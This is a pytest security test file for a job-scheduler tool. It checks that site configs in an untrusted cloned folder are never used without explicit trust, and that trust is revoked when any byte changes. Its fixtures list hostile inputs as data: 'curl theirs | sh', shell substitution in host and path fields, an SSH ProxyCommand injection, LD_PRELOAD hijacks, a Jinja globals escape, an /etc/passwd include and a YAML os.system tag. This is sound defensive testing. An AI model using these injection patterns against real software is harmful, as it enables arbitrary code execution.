"""The folder of a stranger as the current directory: nothing in it acts before the user has agreed to it."""

from __future__ import annotations

import json
import os
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from scheduler import ConfigError, SchedulerError, Site
from scheduler.cli.reconnect import site_of_jobs
from scheduler.ledger.ledger import Ledger
from scheduler.site.catalog import find_site, list_sites, own_folders
from scheduler.site.trust import is_trusted, trust
from scheduler.transports.prompt import NoPrompter
from tests.cli.workspace import Workspace, wait_for, workspace_in
from tests.end_to_end.hostile import CANARY
from tests.testcluster import Cluster

Tried = Callable[[int], None]
NOBODY = NoPrompter("prompts are turned off")
CASES = 1200
RECORDED_CASES = 300
NAMES = ("jlab", "local", "mine", "new", "perlmutter", "it's", "a b", "$HOME", "-x", "é")
MINE = {"transport": "ssh", "host": "mine.example.org", "scheduler": "slurm", "work_dir": "/mine", "account": "mine"}
KEYS: dict[str, list[Any]] = {
    "transport": ["ssh", "local", "openssh", "nonsense"],
    "host": ["theirs.example.org", "127.0.0.1", f"$(touch {CANARY})", "-oProxyCommand=touch"],
    "ssh": [
        {"proxy_jump": "theirs"},
        {"known_hosts": "/dev/null"},
        {"accept_new_host_key": True},
        {"user": "root"},
        [],
    ],
    "scheduler": ["slurm", "shell", "pbs"],
    "work_dir": ["/theirs", "$HOME/w", "~/", f"/w/`touch {CANARY}`"],
    "account": ["theirs"],
    "prologue": [f"touch {CANARY}", "curl theirs | sh"],
    "python": [f"sh -c 'touch {CANARY}'", "./python"],
    "template": ["own.sh.j2", "../own.sh.j2", "/etc/passwd", "/dev/zero", "fifo", "missing"],
    "environment": [{"LD_PRELOAD": "./theirs.so"}, {"PATH": "."}],
    "limits": [{"poll_seconds": 0.001}, {"queued": 1}],
    "container": [{"binds": ["/:/host"]}, {"runtime": "./apptainer"}],
    "native": [["--wrap=id"], ["--comment=theirs"]],
}
TEMPLATES = (
    '{% extends "slurm.sh.j2" %}{% block prologue %}touch x{% endblock %}', "{{ cycler.__init__.__globals__ }}", "",
    '{% include "/etc/passwd" %}', "{% include x %}", "{% if %}", "\0", '{% import "part.j2" as p %}{{ p }}',
)  # fmt: skip
MODES = (0o644, 0o600, 0o664, 0o666, 0o777, 0o646)


class Folder:
    """A stranger's folder, filled with different files for each case."""

    def __init__(self, path: Path, dice: random.Random) -> None:
        self.path, self.dice = path, dice
        self.sites = path / "site_configs"

    def fill(self) -> tuple[str, Path]:
        """Other files in the folder. Gives the name of a site and its file."""
        for file in [*self.sites.iterdir(), *(self.path / name for name in ("own.sh.j2", *NAMES))]:
            if file.is_symlink() or file.exists():
                file.unlink()
        name = self.dice.choice(NAMES)
        chosen = {"transport": "ssh", "host": "theirs", "scheduler": "slurm", "work_dir": "/theirs"}
        chosen |= {key: self.dice.choice(KEYS[key]) for key in self.dice.sample(sorted(KEYS), self.dice.randint(0, 6))}
        file = self.sites / f"{name}{self.dice.choice(('.yaml', '.yml'))}"
        kind = self.dice.random()
        text = (
            json.dumps(chosen) if kind < 0.8 else self.dice.choice(("{", "- a", "a: !!python/name:os.system", "\0", ""))
        )
        if kind < 0.9:
            file.write_text(text)
            file.chmod(self.dice.choice(MODES))
        else:
            (self.path / name).write_text(text)
            file.symlink_to(self.path / name)
        (self.path / name).write_text(json.dumps(chosen))
        for place in (self.sites, self.path):
            (place / "own.sh.j2").write_text(self.dice.choice(TEMPLATES))
        (self.sites / "part.j2").write_text("echo {{ job_id }}")
        os.mkfifo(self.sites / "fifo")
        return name, file


@pytest.fixture
def theirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Folder:
    folder = tmp_path / "clone"
    (folder / "site_configs").mkdir(parents=True)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("SCHEDULER_CONFIG_DIR", str(tmp_path / "settings"))
    monkeypatch.setenv("SCHEDULER_STATE_DIR", str(tmp_path / "state"))
    own = tmp_path / "settings/sites"
    own.mkdir(parents=True)
    (own / "mine.yaml").write_text(json.dumps(MINE))
    (own / "jlab.yaml").write_text("account: mine\nwork_dir: /mine\n")
    return Folder(folder, random.Random(20261128))


def nothing_happened(folder: Folder, tmp_path: Path) -> None:
    assert not Path(CANARY).exists() and not (folder.path / "theirs").exists()
    assert list((tmp_path / "state").glob("trusted*")) == []


def test_no_file_of_a_folder_is_used_without_trust(theirs: Folder, tmp_path: Path, tried: Tried) -> None:
    for _ in range(CASES):
        name, _ = theirs.fill()
        try:
            found = find_site(name, prompter=NOBODY)
        except ConfigError as error:
            assert "scheduler sites trust" in str(error) or "writable by every user" in str(error) or ": " in str(error)
            continue
        assert all(path.parent.resolve() in [one.resolve() for one in own_folders()] for path in found.sources)
        assert "theirs" not in json.dumps(found.to_json()["settings"])
    listed = {entry.name: entry for entry in list_sites()}
    assert listed["mine"].path.parent == tmp_path / "settings/sites" or listed["mine"].error
    tried(CASES)
    nothing_happened(theirs, tmp_path)


def test_no_file_of_a_folder_changes_the_way_to_a_recorded_job(theirs: Folder, tmp_path: Path, tried: Tried) -> None:
    class Sites:
        def site_json(self, name: str) -> str:
            return json.dumps(then.to_json())

    class Recorded:
        sites, path = Sites(), tmp_path / "state"

    for _ in range(RECORDED_CASES):
        name, file = theirs.fill()
        values = {**MINE, "host": "mine.example.org", "limits": {"queued": 7}}
        sources = theirs.dice.choice([[], [file], [tmp_path / "settings/sites/mine.yaml"], [theirs.path / name]])
        then = Site.from_mapping(values, name=name, sources=sources)
        now = site_of_jobs(name, Recorded())  # type: ignore[arg-type]
        assert (now.host, now.transport, now.work_dir) == ("mine.example.org", "ssh", "/mine"), (name, sources)
        assert "theirs" not in json.dumps(now.to_json()["settings"])
        assert (now.prologue, now.python, now.template) == ("", "python3", None)
    tried(RECORDED_CASES)
    nothing_happened(theirs, tmp_path)


def changes(content: bytes, dice: random.Random) -> Iterator[bytes]:
    """The content with a byte more, less, or another one, at many places."""
    for at in range(0, len(content), 4):
        yield content[:at] + bytes([content[at] ^ (1 << dice.randrange(8))]) + content[at + 1 :]
        yield content[:at] + content[at + 1 :]
        yield content[:at] + b" " + content[at:]


def test_trust_ends_with_any_change_of_a_byte(theirs: Folder, tmp_path: Path, tried: Tried) -> None:
    file, template, part = (theirs.sites / name for name in ("new.yaml", "own.sh.j2", "part.j2"))
    file.write_text(json.dumps({**MINE, "template": "own.sh.j2"}))
    template.write_text('{% extends "slurm.sh.j2" %}{% block prologue %}{% include "part.j2" %}{% endblock %}')
    part.write_text("echo part of the prologue")
    trust(file)
    for changed in (file, template, part):
        content = changed.read_bytes()
        for other in changes(content, theirs.dice):
            changed.write_bytes(other)
            tried(1)
            if other != content:
                assert not is_trusted(file), other
                with pytest.raises(SchedulerError):
                    find_site("new", prompter=NOBODY)
        changed.write_bytes(content)
        assert is_trusted(file)


@pytest.mark.cluster
def test_a_strangers_folder_does_not_redirect_jobs_over_ssh(tmp_path: Path, cluster: Cluster, tried: Tried) -> None:
    workspace = workspace_in(tmp_path / "w")
    workspace.write("site_configs/far.yaml", json.dumps(cluster.site("far").to_json()["settings"]))
    file = workspace.sweep("good", count=1)
    workspace.scheduler("submit", file, "--site", "far")
    clone = tmp_path / "clone"
    (clone / "site_configs").mkdir(parents=True)
    stranger = Workspace(clone, workspace.environment)
    traps: list[dict[str, Any]] = [
        {"host": "127.0.0.1", "ssh": {"port": 1}}, {"transport": "local", "scheduler": "shell", "work_dir": str(clone)},
        {"ssh": {"proxy_jump": "127.0.0.1:1", "known_hosts": "/dev/null"}, "prologue": f"touch {CANARY}"},
    ]  # fmt: skip
    for trap in traps:
        stranger.write("site_configs/far.yaml", json.dumps({"transport": "ssh", "host": "h", "scheduler": "slurm",
                                                            "work_dir": "/w", **trap}))  # fmt: skip
        stranger.write("site_configs/rogue.yaml", (clone / "site_configs/far.yaml").read_text())
        assert stranger.scheduler("status", "--json").json[0]["state"] != "lost"
        tried(1)
    for arguments in (("check", "rogue"), ("submit", str(workspace.folder / file), "--site", "rogue")):
        refused = stranger.scheduler("--no-prompt", *arguments, code=1)
        assert "scheduler sites trust" in refused.err and "Traceback" not in refused.err
        tried(1)
    wait_for(lambda: stranger.scheduler("wait", "--json").json[0]["state"] == "completed", what="the end of the job")
    assert sorted(path.name for path in clone.iterdir()) == ["site_configs"]
    assert not Path(CANARY).exists()
    ledger = Ledger(Path(workspace.environment["SCHEDULER_STATE_DIR"]))
    assert all(row.status.final for row in ledger.chosen())
    ledger.close()
